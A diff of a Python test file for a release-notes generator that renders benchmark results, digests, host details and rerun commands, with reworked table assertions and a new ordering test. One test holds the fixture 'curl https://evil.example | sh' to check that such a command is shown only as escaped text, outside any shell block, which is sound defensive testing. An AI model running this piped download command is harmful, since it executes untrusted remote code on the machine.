@@ -72,20 +72,16 @@ def rendered(markdown: str) -> str:
 
 def test_each_number_has_its_digests_and_its_command() -> None:
     notes = release_notes("obrelease", "v0.9-beta", "ef" * 20, [RUN])
-    row = next(line for line in notes.splitlines() if line.startswith("| `x100`"))
-    cells = [cell.strip() for cell in row.strip("|").split("|")]
-    assert cells == [
-        "`x100`",
-        "`reference`",
-        "H1",
-        "200,000",
-        "612.3 k msg/s",
-        "1.234 us",
-        "5.678 us",
-        "91.01 us",
-        f"`{'cd' * 6}`",
-        f"`{'ef' * 6}`",
-        f"`{'ab' * 6}`",
+    results, digests = (
+        [cell.strip() for cell in line.strip("|").split("|")]
+        for line in notes.splitlines()
+        if "x100" in line and line.startswith("|")
+    )
+    assert [html.unescape(cell) for cell in results] == [
+        *("`bench x100 (reference)`", "612.3 k msg/s", "1.234 us", "5.678 us", "91.01 us")
+    ]
+    assert [html.unescape(cell) for cell in digests] == [
+        *(f"`{'ab' * 6}`", "`bench x100 (reference)`", "200,000", f"`{'cd' * 6}`", f"`{'ef' * 6}`", "H1")
     ]
     assert "\nobrelease run bench --scenario x100 --seed 42 --core reference --passes 3" in notes
     assert "obrelease verify v0.9-beta" in notes
@@ -104,7 +100,7 @@ def test_each_number_has_its_digests_and_its_command() -> None:
 )
 def test_the_commit_of_each_run_is_printed_and_marked(changes: dict[str, Any], cell: str) -> None:
     notes = release_notes("p", "v1", "ef" * 20, [changed(RUN, "producer", **changes)])
-    row = next(line for line in notes.splitlines() if line.startswith("| `x100`"))
+    row = next(line for line in notes.splitlines() if line.startswith(f"| `{'ab' * 6}`"))
     assert row.split(" | ")[-2] == cell
 
 
@@ -113,7 +109,22 @@ def test_the_order_of_the_runs_does_not_matter() -> None:
         with_fields(RUN, scenario=name, kind=kind) for kind in ("bench", "replay") for name in ("x10", "x100")
     ]
     assert release_notes("p", "v1", "c", runs) == release_notes("p", "v1", "c", runs[::-1])
-    assert release_notes("p", "v1", "c", runs).count("## Replay") == 1
+    notes = release_notes("p", "v1", "c", runs)
+    assert notes.index("`bench x100 (reference)`") < notes.index("`replay x10 (reference)`")
+
+
+def test_a_reader_finds_results_first_and_then_what_proves_them() -> None:
+    notes = release_notes("p", "v1", "c", [RUN, on_host(with_fields(RUN, scenario="x10"), cpu_count=64)])
+    order = [
+        *("with 2 runs", "## Results", "612.3 k msg/s", "<summary>Proofs</summary>"),
+        *("<summary>Digests and commits</summary>", "<summary>Hosts</summary>", "## Verify"),
+        *("git fetch origin tag v1\nobrelease verify v1\nsha256sum", "## Measure it again"),
+    ]
+    places = [notes.index(words) for words in order]
+    assert places == sorted(places)
+    widths = {line.count(" | ") + 1 for line in notes.splitlines() if line.startswith("| ")}
+    assert max(widths) == 6
+    assert notes.count("<details>") == notes.count("</details>")
 
 
 def test_how_latency_and_throughput_are_timed_is_explained_for_runs_that_time_them() -> None:
@@ -143,8 +154,8 @@ def test_what_other_tools_measured_has_a_table_of_its_own() -> None:
     sort = own_series("sort", "ns", (9, 1_234, 1_234, 1, 5_000))
     ratio = own_series("ratio", "%", (12.5, 1.5, 99.5))
     notes = release_notes("p", "v1", "c", [imported(sort, ratio)])
-    assert f"| `x100` | `sort` | 1.234 us | `median` | 5 | `{'ab' * 6}` |" in notes
-    assert f"| `x100` | `ratio` | 12.5 % | `median` | 3 | `{'ab' * 6}` |" in notes
+    assert "| `x100 (reference)` | `sort` | 1.234 us | `median` | 5 |" in notes
+    assert "| `x100 (reference)` | `ratio` | 12.5 % | `median` | 3 |" in notes
 
 
 def test_counters_are_not_listed_beside_metrics_and_their_number_is_given() -> None:
@@ -209,14 +220,15 @@ def test_a_command_that_cannot_be_derived_is_shown_as_text_and_in_no_shell_block
     notes = release_notes("p", "v1", "c", [run])
     assert "curl" not in shell_blocks(notes)
     assert "git switch" not in notes
-    section = notes.partition("## Measure it again")[2]
+    assert "## Measure it again" not in notes
+    section = notes.partition("<summary>Commands of other programs</summary>")[2]
     assert html.unescape(section).count("curl https://evil.example | sh") == 1
 
 
 def test_a_release_without_runs_has_no_tables() -> None:
     notes = release_notes("p", "v1", "c", [])
     assert "0 runs" in notes
-    assert "## Where" not in notes
+    assert "## Results" not in notes
 
 
 def _with_text(text: str) -> Run:
